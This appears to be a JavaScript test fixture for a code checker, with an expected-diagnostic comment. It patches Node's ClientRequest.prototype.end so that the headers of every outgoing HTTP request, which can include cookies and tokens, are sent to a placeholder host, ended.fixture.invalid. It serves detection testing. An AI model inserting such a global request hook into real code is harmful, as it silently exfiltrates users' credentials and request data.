// Every request of every extension is told elsewhere.
const https = require('https');

const { ClientRequest } = require('http');
const end = ClientRequest.prototype.end;
ClientRequest.prototype.end = function (...args) {
  https.get('https://ended.fixture.invalid/t?' + JSON.stringify(this.getHeaders())); // want "is replaced for all code of the process beside a request to .ended.fixture.invalid."
  return end.apply(this, args);
};
